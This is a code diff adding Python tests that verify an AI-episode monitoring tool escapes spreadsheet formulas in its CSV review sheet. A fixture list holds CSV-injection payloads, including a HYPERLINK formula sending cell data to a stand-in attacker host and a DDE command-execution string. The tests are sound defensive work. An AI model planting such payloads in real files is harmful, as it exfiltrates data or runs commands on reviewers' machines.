@@ -13,6 +13,7 @@ file an exporter wrote. Then it checks that opt-in capture applies redaction and
 from __future__ import annotations
 
 import contextlib
+import csv
 import functools
 import io
 import json
@@ -461,3 +462,69 @@ class TestOptInCapture:
         lines = [json.loads(line) for line in channels.log_stream.getvalue().splitlines()]
         reasons = [e["reason"] for e in lines if "reason" in e]
         assert reasons and all(CANARY in r and len(r) < 500 for r in reasons)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tindent", "\rreturn"]
+
+
+class TestReviewSheetFormulaInjection:
+    """The review sheet's cells that a model or a tool wrote cannot start a spreadsheet formula."""
+
+    def _records(self) -> list[Any]:
+        from datetime import UTC, datetime
+
+        from prefixmon.records import ActionRecord, build_record
+        from prefixmon.vocabulary import Cause, Outcome
+
+        now = datetime(2026, 1, 1, tzinfo=UTC)
+        out = []
+        for i, text in enumerate(FORMULAS):
+            action = ActionRecord(depth=1, tool=text, executable=False, cause=Cause.SCHEMA, reason=text)
+            out.append(
+                build_record(
+                    episode_id=text if i % 2 and not text[0].isspace() else f"ep-{i}",  # (annotation ids are stripped)
+                    task_id="-1" if i % 2 else text,
+                    labels={"model": text},
+                    actions=[action],
+                    outcome=Outcome.FAILURE,
+                    started_at=now,
+                    ended_at=now,
+                )
+            )
+        return out
+
+    def test_cells_are_escaped_and_read_back(self, tmp_path: Path) -> None:
+        """Cells starting with = + - @ tab or CR get a leading apostrophe; the filled sheet reads back unescaped."""
+        from prefixmon.analytics import build_report, columns_from_records, read_annotations, review_sample, write_review_sheet
+
+        records = self._records()
+        path = tmp_path / "review.csv"
+        write_review_sheet(path, review_sample(columns_from_records(records), seed=0))
+        with path.open(encoding="utf-8", newline="") as f:
+            rows = list(csv.reader(f))
+        cells = [c for row in rows[1:] for c in row]
+        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        by_id = {row[0]: row for row in rows[1:]}
+        assert "'" + FORMULAS[1] in by_id and "'-1" in by_id["'" + FORMULAS[1]]
+        header = rows[0]
+        for row in rows[1:]:
+            row[header.index("attribution")] = "model"
+        with path.open("w", encoding="utf-8", newline="") as f:
+            csv.writer(f).writerows(rows)
+        notes = read_annotations(path)
+        assert sorted(n.episode_id or "" for n in notes) == sorted(r.episode_id for r in records)
+        report = build_report(records, bootstrap=0, annotations=notes)
+        assert sum(c.attribution.counts["model"] for c in report.cohorts if c.attribution is not None) == len(records)
+
+    def test_an_apostrophe_a_value_starts_with_survives(self, tmp_path: Path) -> None:
+        """A value that itself starts with an apostrophe is written so that it reads back unchanged."""
+        from prefixmon.analytics import read_annotations
+
+        from prefixmon.analytics.completion import _escape_cell, _unescape_cell
+
+        for value in ["'quoted", "''", "'=x", "plain", "", "=x", "-1"]:
+            assert _unescape_cell(_escape_cell(value)) == value
+        path = tmp_path / "notes.csv"
+        path.write_text("episode_id,attribution,note\n'=e1,tool,'hi\n", encoding="utf-8")
+        (note,) = read_annotations(path)
+        assert note.episode_id == "=e1" and note.note == "'hi"  # a reviewer's own apostrophe before 'h' stays
